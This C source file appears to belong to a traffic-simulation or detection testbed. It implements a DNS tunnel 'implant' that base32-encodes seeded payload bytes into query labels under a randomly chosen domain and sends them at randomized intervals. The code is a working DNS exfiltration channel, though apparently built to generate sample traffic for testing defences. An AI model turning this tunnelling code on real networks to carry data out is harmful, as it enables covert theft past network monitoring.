/* dns: a slow tunnel through the resolver that the network itself offers.
 *
 * Every few seconds one question, whose labels are base32 (RFC 4648 section 6, lower case,
 * no filling) of the next octets of a text.  Whoever holds the domain's name server reads
 * along; the answers do not matter.  The seed chooses the domain, the type asked for, how
 * the name is cut into labels, and the pace. */
#include "samples/camera/implant.h"
#include "samples/camera/payload.h"

#define LARGEST_CHUNK 60

typedef struct
{
  const LensHost *host;
  LensDice dice;
  LensPayload payload;
  char *domain;
  guint16 type;
  guint octets;                  /* of text in a question */
  guint label;                   /* the longest label, octets */
  guint shortest_ms, longest_ms; /* between two questions */
  guint alarm;
} Tunnel;

static char *
choose_domain (LensDice *dice)
{
  static const char *const tops[] = { "com", "net", "org", "info", "io", "cc", "xyz", "biz" };
  GString *name = g_string_new (NULL);

  if (lens_dice_between (dice, 0, 2) == 0)
    {
      lens_dice_word (dice, name, 1);
      g_string_append_c (name, '.');
    }
  lens_dice_word (dice, name, lens_dice_between (dice, 3, 5));
  if (lens_dice_between (dice, 0, 3) == 0)
    g_string_append_printf (name, "%u", lens_dice_between (dice, 1, 99));
  g_string_append_printf (name, ".%s", tops[lens_dice_between (dice, 0, G_N_ELEMENTS (tops) - 1)]);
  return g_string_free (name, FALSE);
}

/* Base32 of @octets, with a dot after every @label characters. */
static void
append_labels (GString *name, const guint8 *octets, gsize length, guint label)
{
  static const char alphabet[] = "abcdefghijklmnopqrstuvwxyz234567";
  gsize characters = (length * 8 + 4) / 5;

  for (gsize i = 0; i < characters; i++)
    {
      gsize octet = i * 5 / 8;
      guint pair = octets[octet] << 8 | (octet + 1 < length ? octets[octet + 1] : 0);
      g_string_append_c (name, alphabet[(pair >> (11 - i * 5 % 8)) & 0x1f]);
      if ((i + 1) % label == 0 && i + 1 < characters)
        g_string_append_c (name, '.');
    }
}

static void
rearm (Tunnel *self, GSourceFunc when_due)
{
  self->alarm = g_timeout_add (lens_dice_between (&self->dice, self->shortest_ms, self->longest_ms),
                               when_due, self);
}

static gboolean
ask (gpointer data)
{
  Tunnel *self = data;
  guint8 chunk[LARGEST_CHUNK];
  g_autoptr (GString) name = g_string_new (NULL);

  lens_payload_take (&self->payload, chunk, self->octets);
  append_labels (name, chunk, self->octets, self->label);
  g_string_append_printf (name, ".%s", self->domain);
  lens_resolver_ask (self->host->resolver, "implant", "dns", name->str, self->type, NULL, NULL);
  rearm (self, ask);
  return G_SOURCE_REMOVE;
}

static gpointer
start (const LensHost *host)
{
  static const guint16 types[] = { LENS_RESOLVER_A, LENS_RESOLVER_TXT, LENS_RESOLVER_AAAA };
  Tunnel *self = g_new0 (Tunnel, 1);

  self->host = host;
  self->dice = lens_dice_for (host->seed, "dns");
  lens_payload_init (&self->payload, host->seed, "dns");
  self->domain = choose_domain (&self->dice);
  self->type = types[lens_dice_between (&self->dice, 0, G_N_ELEMENTS (types) - 1)];
  self->octets = lens_dice_between (&self->dice, 15, LARGEST_CHUNK);
  self->label = lens_dice_between (&self->dice, 20, 63);
  self->shortest_ms = lens_dice_between (&self->dice, 1500, 4000);
  self->longest_ms = self->shortest_ms + lens_dice_between (&self->dice, 0, 3000);
  rearm (self, ask);
  return self;
}

static void
stop (gpointer data)
{
  Tunnel *self = data;

  g_source_remove (self->alarm);
  lens_payload_clear (&self->payload);
  g_free (self->domain);
  g_free (self);
}

const LensImplant lens_implant_dns = {
  .name = "dns",
  .start = start,
  .stop = stop,
};
